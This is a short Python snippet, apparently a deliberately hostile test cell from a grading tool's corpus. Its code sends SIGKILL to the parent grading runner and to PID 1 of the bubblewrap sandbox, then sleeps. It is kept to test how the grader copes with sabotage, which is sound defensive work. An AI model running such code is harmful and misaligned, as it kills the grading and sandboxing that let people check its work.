# A hostile cell of the gradekit corpus: SIGKILLs the grading runner (same uid) and bubblewrap.
import os, signal, time
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
time.sleep(5)
